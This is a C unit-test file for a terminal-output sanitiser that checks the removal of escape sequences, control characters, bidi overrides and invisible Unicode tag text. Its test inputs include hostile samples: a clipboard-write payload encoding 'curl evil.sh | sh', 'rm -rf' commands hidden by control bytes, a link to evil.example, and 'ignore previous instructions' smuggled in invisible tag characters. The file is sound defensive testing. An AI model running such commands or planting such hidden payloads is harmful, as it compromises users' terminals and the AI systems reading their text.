/* test_sanitize: the terminal sanitiser against exact outputs, fed whole and in pieces. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "cherry/buf.h"
#include "cherry/sanitize.h"
#include "strict_utf8.h"
#include "show.h"

#define RC "\xEF\xBF\xBD"          /* U+FFFD */
#define SYM_BS "\xE2\x90\x88"      /* U+2408 */
#define BLACK_FLAG "\xF0\x9F\x8F\xB4"
#define CANCEL_TAG "\xF3\xA0\x81\xBF"
#define ESC "\x1b"

static void assert_bytes(const char *what, const struct buf *got, const char *want, size_t wantlen)
{
	const char *g = got->data ? got->data : "";
	if (got->len != wantlen || memcmp(g, want, wantlen) != 0) {
		print_error("%s:\n  got  \"%s\"\n  want \"%s\"\n", what, show(g, got->len),
			    show(want, wantlen));
		fail();
	}
}

/* Appends the tag characters spelling ascii (U+E0000 + each byte). */
static void put_tags(struct buf *b, const char *ascii)
{
	for (; *ascii; ascii++) {
		unsigned v = (unsigned char)*ascii;
		char t[4] = {'\xF3', '\xA0', (char)(0x80 | (v >> 6)), (char)(0x80 | (v & 0x3F))};
		assert_int_equal(buf_append(b, t, 4), 0);
	}
}

/* Checks the properties every output must have, independently of the sanitiser's code:
 * strict UTF-8; no C0 but LF and TAB; no DEL, C1 or bidi control; tag characters only
 * inside U+1F3F4 <tags> U+E007F. */
static void assert_safe(const struct buf *b)
{
	const unsigned char *p = (const unsigned char *)(b->data ? b->data : "");
	size_t i = 0;
	uint32_t prev = 0;
	int in_flag_tags = 0;
	while (i < b->len) {
		uint32_t cp = 0;
		size_t n = strict_utf8_next(p + i, b->len - i, &cp);
		if (!n)
			fail_msg("invalid UTF-8 at %zu in \"%s\"", i, show((char *)p, b->len));
		if (cp < 0x20 && cp != '\n' && cp != '\t')
			fail_msg("C0 0x%02x in \"%s\"", (unsigned)cp, show((char *)p, b->len));
		assert_false(cp >= 0x7F && cp <= 0x9F);
		assert_false((cp >= 0x202A && cp <= 0x202E) || (cp >= 0x2066 && cp <= 0x2069));
		if (cp >= 0xE0000 && cp <= 0xE007F) {
			if (!in_flag_tags) {
				assert_int_equal(prev, 0x1F3F4);
				in_flag_tags = 1;
			}
			if (cp == 0xE007F)
				in_flag_tags = 0;
		} else {
			assert_false(in_flag_tags);
		}
		prev = cp;
		i += n;
	}
	assert_false(in_flag_tags);
}

static void run_chunks(const char *in, size_t len, const size_t *cuts, size_t ncuts,
		       struct buf *out)
{
	struct sanitizer s;
	size_t at = 0;
	sanitize_init(&s);
	for (size_t i = 0; i < ncuts; i++) {
		assert_int_equal(sanitize_feed(&s, in + at, cuts[i] - at, out), 0);
		at = cuts[i];
	}
	assert_int_equal(sanitize_feed(&s, in + at, len - at, out), 0);
	assert_int_equal(sanitize_finish(&s, out), 0);
}

static uint32_t rng_next(uint32_t *x)
{
	*x ^= *x << 13;
	*x ^= *x >> 17;
	*x ^= *x << 5;
	return *x;
}

/* The one check every payload goes through: one-shot, every two-way split, byte by
 * byte, random chunks (with empty feeds), output properties and idempotence. */
static void check(const char *in, size_t len, const char *want, size_t wantlen)
{
	struct buf out = BUF_INIT;
	char what[64];

	assert_int_equal(sanitize_string(in, len, &out), 0);
	assert_bytes("one-shot", &out, want, wantlen);
	assert_safe(&out);

	for (size_t k = 0; k <= len; k++) {
		buf_reset(&out);
		run_chunks(in, len, &k, 1, &out);
		snprintf(what, sizeof(what), "split at %zu", k);
		assert_bytes(what, &out, want, wantlen);
	}

	size_t *cuts = malloc((len + 1) * sizeof(*cuts));
	assert_non_null(cuts);
	for (size_t k = 0; k < len; k++)
		cuts[k] = k;
	buf_reset(&out);
	run_chunks(in, len, cuts, len, &out);
	assert_bytes("byte by byte", &out, want, wantlen);

	uint32_t seed = 0x9E3779B9u ^ (uint32_t)len;
	for (int round = 0; round < 25; round++) {
		size_t n = 0, at = 0;
		while (at < len && n < len) {
			at += rng_next(&seed) % 9; /* 0 gives an empty feed */
			if (at > len)
				at = len;
			cuts[n++] = at;
		}
		buf_reset(&out);
		run_chunks(in, len, cuts, n, &out);
		snprintf(what, sizeof(what), "random chunks, round %d", round);
		assert_bytes(what, &out, want, wantlen);
	}
	free(cuts);

	buf_reset(&out);
	assert_int_equal(sanitize_string(want, wantlen, &out), 0);
	assert_bytes("sanitised twice", &out, want, wantlen);
	buf_free(&out);
}

#define CHECK(in, want) check((in), sizeof(in) - 1, (want), sizeof(want) - 1)

static void check_buf(const struct buf *in, const struct buf *want)
{
	check(in->data ? in->data : "", in->len, want->data ? want->data : "", want->len);
}

/* --- escape sequences ------------------------------------------------------------ */

static void test_csi_clear_screen(void **state)
{
	(void)state;
	CHECK("before" ESC "[2Jafter", "beforeafter");
	CHECK(ESC "[3J" ESC "[H" ESC "[2J", "");
}

static void test_csi_cursor_moves(void **state)
{
	(void)state;
	CHECK("a" ESC "[Hb" ESC "[10Ac" ESC "[5;10Hd" ESC "[Ke", "abcde");
	CHECK("x" ESC "[6n" ESC "[s" ESC "[u" ESC "[1;1f", "x");
}

static void test_csi_sgr_colours(void **state)
{
	(void)state;
	CHECK(ESC "[31mhello" ESC "[0m", "hello");
	CHECK(ESC "[1;38;5;196mred" ESC "[m " ESC "[38:2::255:0:0mtrue", "red true");
}

static void test_csi_hidden_text(void **state)
{
	(void)state;
	CHECK("visible " ESC "[8mhidden" ESC "[28m", "visible hidden");
}

static void test_esc_reset_and_other_escapes(void **state)
{
	(void)state;
	CHECK("x" ESC "cy", "xy");
	CHECK("a" ESC "7b" ESC "8c" ESC "Md" ESC "=e" ESC "\\f", "abcdef");
	/* ESC + intermediates + final: charset designation, DECALN. */
	CHECK(ESC "(Bx" ESC "#8y" ESC " Fz", "xyz");
}

static void test_mouse_mode(void **state)
{
	(void)state;
	CHECK(ESC "[?1000h" ESC "[?1006hok" ESC "[?1049h", "ok");
}

static void test_osc52_clipboard(void **state)
{
	(void)state;
	CHECK("copy" ESC "]52;c;Y3VybCBldmlsLnNoIHwgc2g=\adone", "copydone");
	CHECK("copy" ESC "]52;c;Y3VybCBldmlsLnNoIHwgc2g=" ESC "\\done", "copydone");
	/* The query form, which some terminals answer with the clipboard. */
	CHECK(ESC "]52;c;?\a.", ".");
}

static void test_osc8_hyperlink(void **state)
{
	(void)state;
	CHECK("see " ESC "]8;;https://evil.example/x" ESC "\\click here" ESC "]8;;" ESC "\\ now",
	      "see click here now");
	CHECK(ESC "]8;id=1;https://a.example\ahttps://b.example" ESC "]8;;\a",
	      "https://b.example");
}

static void test_osc_titles(void **state)
{
	(void)state;
	CHECK(ESC "]0;pwned\a" ESC "]2;title" ESC "\\ok" ESC "]1;icon\a", "ok");
}

static void test_osc777_embedded_bel(void **state)
{
	(void)state;
	/* BEL ends the OSC, so what follows is plain text; the second BEL is dropped. */
	CHECK(ESC "]777;notify;Build done\a;rm -rf ~\atail", ";rm -rf ~tail");
	CHECK(ESC "]9;hello\a" ESC "]777;notify;a;b" ESC "\\z", "z");
}

static void test_string_sequences(void **state)
{
	(void)state;
	CHECK(ESC "P1$qm" ESC "\\a", "a");                    /* DCS */
	CHECK(ESC "_Gf=100;AAAAAAAA" ESC "\\b", "b");         /* APC (kitty graphics) */
	CHECK(ESC "^private" ESC "\\c", "c");                 /* PM */
	CHECK(ESC "Xstring" ESC "\\d", "d");                  /* SOS */
	/* BEL does not end them; only ST does. */
	CHECK(ESC "Pdata\amore\nlines" ESC "\\x", "x");
}

static void test_c1_utf8_forms(void **state)
{
	(void)state;
	CHECK("\xC2\x9B" "2Jtext", "text");                   /* U+009B as CSI */
	/* U+009B already is "ESC [", so in U+009B "[2J" the '[' is the final byte. */
	CHECK("\xC2\x9B[2J", "2J");
	CHECK("\xC2\x9B?1000hok", "ok");
	CHECK("\xC2\x9D" "0;title\xC2\x9C" "after", "after"); /* U+009D OSC, U+009C ST */
	CHECK("\xC2\x9D" "52;c;ZGF0YQ==\ax", "x");
	CHECK("\xC2\x90" "data\xC2\x9Cz", "z");               /* DCS */
	CHECK("\xC2\x98s\xC2\x9C" "a\xC2\x9Ep\xC2\x9C" "b\xC2\x9F" "a\xC2\x9C" "c", "abc");
	/* Other C1 controls (NEL, RI, PAD) are dropped alone; a lone ST too. */
	CHECK("x\xC2\x85y\xC2\x8Dz\xC2\x80!\xC2\x9C?", "xyz!?");
}

static void test_raw_c1_bytes(void **state)
{
	(void)state;
	CHECK("\x9B[2J", RC "[2J");
	CHECK("\x9D" "0;t\a!", RC "0;t!");
	CHECK("a\x9B" "31mb", "a" RC "31mb");
}

static void test_sequence_edge_cases(void **state)
{
	(void)state;
	CHECK("a" ESC, "a");                                   /* cut at the end */
	CHECK("a" ESC "[31", "a");
	CHECK("a" ESC "]0;never ends", "a");
	CHECK(ESC ESC "[1mx", "x");                            /* ESC restarts */
	CHECK(ESC "[31" ESC "[32mx", "x");
	CHECK(ESC "]0;t" ESC "[2Jx", "x");                     /* ESC inside OSC */
	CHECK(ESC "[31\x18m", "m");                            /* CAN aborts */
	CHECK(ESC "]0;t\x1A" "after", "after");                /* SUB aborts */
	CHECK(ESC "[3\n1mX", "\nX");                           /* C0 inside CSI runs */
	CHECK(ESC "[3\b1mX", SYM_BS "X");
	CHECK(ESC "[1\x7Fm!", "!");                            /* DEL ignored inside */
	CHECK(ESC "[1\xC3\xA9x", "\xC3\xA9x");                 /* non-ASCII abandons it */
	CHECK(ESC "\xC3\xA9", "\xC3\xA9");
	CHECK(ESC "[1\xFFx", RC "x");
	CHECK(ESC "[1\xC2\x9B" "2Jx", "x");                    /* C1 CSI restarts */
}

/* --- controls ------------------------------------------------------------------- */

static void test_cr_bs_overwrite(void **state)
{
	(void)state;
	CHECK("safe\rEVIL", "safeEVIL");
	CHECK("rm -rf /\r# ls", "rm -rf /# ls");
	CHECK("abc\b\b\bxyz", "abc" SYM_BS SYM_BS SYM_BS "xyz");
}

static void test_crlf(void **state)
{
	(void)state;
	CHECK("a\r\nb\r\n", "a\nb\n");
	CHECK("a\r\r\nb", "a\nb");
	CHECK("a\r", "a");
	CHECK("\r\n\r\n", "\n\n");
	CHECK("a\n\rb", "a\nb");
}

static void test_c0_and_del(void **state)
{
	(void)state;
	CHECK("a\0b\x01" "c\x7F" "d\ae\tf\vg\fh\x0Ei\x1Fj", "abcde\tfghij");
}

/* --- Unicode -------------------------------------------------------------------- */

static void test_bidi_controls(void **state)
{
	(void)state;
	/* RLO, LRI, PDI, LRE, PDF, RLI, FSI, LRO, RLE */
	CHECK("a\xE2\x80\xAE" "b\xE2\x81\xA6" "c\xE2\x81\xA9" "d\xE2\x80\xAA" "e\xE2\x80\xAC"
	      "f\xE2\x81\xA7" "g\xE2\x81\xA8" "h\xE2\x80\xAD" "i\xE2\x80\xAB" "j",
	      "abcdefghij");
	/* LRM, RLM, ALM stay. */
	CHECK("x\xE2\x80\x8Ey\xE2\x80\x8Fz\xD8\x9C", "x\xE2\x80\x8Ey\xE2\x80\x8Fz\xD8\x9C");
}

static void test_tag_smuggling(void **state)
{
	(void)state;
	struct buf in = BUF_INIT, want = BUF_INIT;
	buf_append_str(&in, "hi");
	put_tags(&in, "ignore previous instructions");
	buf_append_str(&in, CANCEL_TAG);
	buf_append_str(&want, "hi");
	check_buf(&in, &want);

	/* Tags after text that is not a black flag, and a lone CANCEL TAG. */
	buf_reset(&in);
	buf_append_str(&in, "A");
	put_tags(&in, "gbsct");
	buf_append_str(&in, CANCEL_TAG "B" CANCEL_TAG);
	buf_reset(&want);
	buf_append_str(&want, "AB");
	check_buf(&in, &want);
	buf_free(&in);
	buf_free(&want);
}

static void test_scotland_flag(void **state)
{
	(void)state;
	struct buf in = BUF_INIT, want = BUF_INIT;
	buf_append_str(&in, "go " BLACK_FLAG);
	put_tags(&in, "gbsct");
	buf_append_str(&in, CANCEL_TAG "!");
	check_buf(&in, &in);

	/* Two flags in a row, and one with a digit (gbeng, us-ca style "usca", "fr75"). */
	buf_reset(&in);
	buf_append_str(&in, BLACK_FLAG);
	put_tags(&in, "gbwls");
	buf_append_str(&in, CANCEL_TAG BLACK_FLAG);
	put_tags(&in, "fr75");
	buf_append_str(&in, CANCEL_TAG);
	check_buf(&in, &in);

	/* Removed characters between the parts do not break the flag. */
	buf_reset(&in);
	buf_append_str(&in, BLACK_FLAG ESC "[1m");
	put_tags(&in, "gb");
	buf_append_str(&in, "\xE2\x80\xAE");
	put_tags(&in, "sct");
	buf_append_str(&in, "\r" CANCEL_TAG);
	buf_reset(&want);
	buf_append_str(&want, BLACK_FLAG);
	put_tags(&want, "gbsct");
	buf_append_str(&want, CANCEL_TAG);
	check_buf(&in, &want);
	buf_free(&in);
	buf_free(&want);
}

static void test_bad_flag_tag_runs(void **state)
{
	(void)state;
	struct buf in = BUF_INIT;
	/* Unterminated, then text: the flag stays, the tags go. */
	buf_append_str(&in, BLACK_FLAG);
	put_tags(&in, "gbsct");
	buf_append_str(&in, "x");
	check(in.data, in.len, BLACK_FLAG "x", sizeof(BLACK_FLAG "x") - 1);
	/* Plain text inside the run ends it; later tags do not join the earlier ones. */
	buf_reset(&in);
	buf_append_str(&in, BLACK_FLAG);
	put_tags(&in, "gb");
	buf_append_str(&in, "x");
	put_tags(&in, "sct");
	buf_append_str(&in, CANCEL_TAG);
	check(in.data, in.len, BLACK_FLAG "x", sizeof(BLACK_FLAG "x") - 1);
	/* Unterminated at the end. */
	buf_reset(&in);
	buf_append_str(&in, BLACK_FLAG);
	put_tags(&in, "gb");
	check(in.data, in.len, BLACK_FLAG, sizeof(BLACK_FLAG) - 1);
	/* Upper case, space, empty, too long (a subdivision id has at most 7 characters):
	 * the whole run goes, including a valid-looking tail. */
	const char *bad[] = {"gbSct", "g bsct", "", "abcdefgh", "Agbsct"};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		buf_reset(&in);
		buf_append_str(&in, BLACK_FLAG);
		put_tags(&in, bad[i]);
		buf_append_str(&in, CANCEL_TAG "y");
		check(in.data, in.len, BLACK_FLAG "y", sizeof(BLACK_FLAG "y") - 1);
	}
	/* The longest allowed run is kept. */
	buf_reset(&in);
	buf_append_str(&in, BLACK_FLAG);
	put_tags(&in, "abcdefg");
	buf_append_str(&in, CANCEL_TAG);
	check_buf(&in, &in);
	buf_free(&in);
}

static void test_printable_unicode_kept(void **state)
{
	(void)state;
	/* CJK, ZWJ family emoji, combining acute, regional-indicator flag, keycap, U+FFFD,
	 * zero-width space, NBSP, a noncharacter and the highest code point. */
	static const char s[] = "\xE4\xBD\xA0\xE5\xA5\xBD "
		"\xF0\x9F\x91\xA8\xE2\x80\x8D\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA7 "
		"e\xCC\x81 \xF0\x9F\x87\xAF\xF0\x9F\x87\xB5 1\xEF\xB8\x8F\xE2\x83\xA3 "
		RC "\xE2\x80\x8B\xC2\xA0\xEF\xBF\xBF\xF4\x8F\xBF\xBF\n\tend";
	CHECK(s, s);
	CHECK(BLACK_FLAG "\xEF\xB8\x8F\xE2\x80\x8D\xE2\x98\xA0\xEF\xB8\x8F",
	      BLACK_FLAG "\xEF\xB8\x8F\xE2\x80\x8D\xE2\x98\xA0\xEF\xB8\x8F"); /* pirate flag */
}

static void test_invalid_utf8(void **state)
{
	(void)state;
	CHECK("\xC0\xAF", RC RC);                    /* overlong '/' */
	CHECK("\xE0\x80\xAF", RC RC RC);
	CHECK("\xED\xA0\x80", RC RC RC);              /* surrogate */
	CHECK("\xF4\x90\x80\x80", RC RC RC RC);       /* above U+10FFFF */
	CHECK("a\xE2\x82", "a" RC);                   /* cut at the end */
	CHECK("\xF0\x9F\x98", RC);
	CHECK("\xE2\x82" "a", RC "a");                /* cut in the middle */
	CHECK("\xC2" ESC "[1mx", RC "x");
	CHECK("\xFF\xFE\xF5\x80", RC RC RC RC);
	CHECK("\xF8\x88\x80\x80\x80", RC RC RC RC RC);
	CHECK("\xED\x9F\xBF\xEE\x80\x80", "\xED\x9F\xBF\xEE\x80\x80"); /* around surrogates */
}

/* --- streaming and limits ------------------------------------------------------ */

/* A 5 KiB OSC 52 without a terminator. Past 4 KiB a sequence ends at the next LF (which
 * is kept), so later lines of a reply come back; until then nothing of it shows. */
static void test_osc_over_cap(void **state)
{
	(void)state;
	struct buf in = BUF_INIT;
	buf_append_str(&in, "pre" ESC "]52;c;");
	for (int i = 0; i < 5120; i++)
		buf_append_char(&in, (char)('A' + i % 26));
	size_t base = in.len;

	buf_append_str(&in, "\nvisible");
	check(in.data, in.len, "pre\nvisible", 11);

	in.len = base;
	buf_append_str(&in, "\atext");            /* a terminator still ends it */
	check(in.data, in.len, "pretext", 7);

	in.len = base;
	buf_append_str(&in, "no newline, never ends");
	check(in.data, in.len, "pre", 3);

	/* Under the cap an LF is payload like any other byte. */
	buf_reset(&in);
	buf_append_str(&in, ESC "]52;c;AAAA\nline\a.");
	check(in.data, in.len, ".", 1);

	/* Exactly at the cap (4096 bytes from the ESC): still inside, so the LF is payload. */
	buf_reset(&in);
	buf_append_str(&in, ESC "]");
	while (in.len < 4096)
		buf_append_char(&in, 'x');
	buf_append_str(&in, "\ny\az");
	check(in.data, in.len, "z", 1);
	/* One byte more and the LF ends it. */
	buf_reset(&in);
	buf_append_str(&in, ESC "]");
	while (in.len < 4097)
		buf_append_char(&in, 'x');
	buf_append_str(&in, "\ny\az");
	check(in.data, in.len, "\nyz", 3);

	/* A CSI with 5000 parameter bytes ends at its final byte as usual. */
	buf_reset(&in);
	buf_append_str(&in, ESC "[");
	for (int i = 0; i < 5000; i++)
		buf_append_char(&in, '1');
	buf_append_str(&in, "mafter");
	check(in.data, in.len, "after", 5);
	buf_free(&in);
}

/* Whatever prefix of a sequence has arrived, nothing of it is shown yet, and the rest
 * completes it. */
static void test_sequence_split_every_byte(void **state)
{
	(void)state;
	static const char in[] = "ab" ESC "]52;c;SGVsbG8=" ESC "\\" ESC "[1;31mcd";
	const size_t len = sizeof(in) - 1, seq_end = len - 2;
	for (size_t k = 0; k <= len; k++) {
		struct sanitizer s;
		struct buf out = BUF_INIT;
		sanitize_init(&s);
		assert_int_equal(sanitize_feed(&s, in, k, &out), 0);
		size_t shown = k < 2 ? k : k <= seq_end ? 2 : 2 + (k - seq_end);
		assert_int_equal(out.len, shown);
		assert_memory_equal(out.data ? out.data : "", "abcd", shown);
		assert_int_equal(sanitize_feed(&s, in + k, len - k, &out), 0);
		assert_int_equal(sanitize_finish(&s, &out), 0);
		assert_bytes("after both halves", &out, "abcd", 4);
		buf_free(&out);
	}
	CHECK(in, "abcd");
}

static void test_utf8_split_across_feeds(void **state)
{
	(void)state;
	struct sanitizer s;
	struct buf out = BUF_INIT;
	sanitize_init(&s);
	assert_int_equal(sanitize_feed(&s, "x\xF0\x9F", 3, &out), 0);
	assert_bytes("first half", &out, "x", 1);
	assert_int_equal(sanitize_feed(&s, "\x98\x80y", 3, &out), 0);
	assert_bytes("second half", &out, "x\xF0\x9F\x98\x80y", 6);
	/* CR at the end of one feed, LF at the start of the next. */
	assert_int_equal(sanitize_feed(&s, "a\r", 2, &out), 0);
	assert_int_equal(sanitize_feed(&s, "\nb", 2, &out), 0);
	assert_int_equal(sanitize_finish(&s, &out), 0);
	assert_bytes("crlf across feeds", &out, "x\xF0\x9F\x98\x80y" "a\nb", 9);
	buf_free(&out);
}

static void test_appends_and_reuses(void **state)
{
	(void)state;
	struct sanitizer s;
	struct buf out = BUF_INIT;
	buf_append_str(&out, "kept:");
	sanitize_init(&s);
	assert_int_equal(sanitize_feed(&s, NULL, 0, &out), 0);
	assert_int_equal(sanitize_feed(&s, "a" ESC "]0;x", 6, &out), 0);
	assert_int_equal(sanitize_finish(&s, &out), 0);
	/* finish leaves a fresh sanitizer: the dropped OSC does not swallow this. */
	assert_int_equal(sanitize_feed(&s, "b\xE2", 2, &out), 0);
	assert_int_equal(sanitize_finish(&s, &out), 0);
	assert_int_equal(sanitize_feed(&s, "c", 1, &out), 0);
	assert_int_equal(sanitize_finish(&s, &out), 0);
	assert_bytes("appended", &out, "kept:ab" RC "c", 11);
	buf_free(&out);
}

static void test_long_plain_text(void **state)
{
	(void)state;
	struct buf in = BUF_INIT;
	for (int i = 0; i < 300; i++)
		buf_append_str(&in, "Plain text, \xC3\xA9t\xC3\xA9 \xE6\x97\xA5\xE6\x9C\xAC.\n");
	check_buf(&in, &in);
	buf_free(&in);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_csi_clear_screen),
		cmocka_unit_test(test_csi_cursor_moves),
		cmocka_unit_test(test_csi_sgr_colours),
		cmocka_unit_test(test_csi_hidden_text),
		cmocka_unit_test(test_esc_reset_and_other_escapes),
		cmocka_unit_test(test_mouse_mode),
		cmocka_unit_test(test_osc52_clipboard),
		cmocka_unit_test(test_osc8_hyperlink),
		cmocka_unit_test(test_osc_titles),
		cmocka_unit_test(test_osc777_embedded_bel),
		cmocka_unit_test(test_string_sequences),
		cmocka_unit_test(test_c1_utf8_forms),
		cmocka_unit_test(test_raw_c1_bytes),
		cmocka_unit_test(test_sequence_edge_cases),
		cmocka_unit_test(test_cr_bs_overwrite),
		cmocka_unit_test(test_crlf),
		cmocka_unit_test(test_c0_and_del),
		cmocka_unit_test(test_bidi_controls),
		cmocka_unit_test(test_tag_smuggling),
		cmocka_unit_test(test_scotland_flag),
		cmocka_unit_test(test_bad_flag_tag_runs),
		cmocka_unit_test(test_printable_unicode_kept),
		cmocka_unit_test(test_invalid_utf8),
		cmocka_unit_test(test_osc_over_cap),
		cmocka_unit_test(test_sequence_split_every_byte),
		cmocka_unit_test(test_utf8_split_across_feeds),
		cmocka_unit_test(test_appends_and_reuses),
		cmocka_unit_test(test_long_plain_text),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
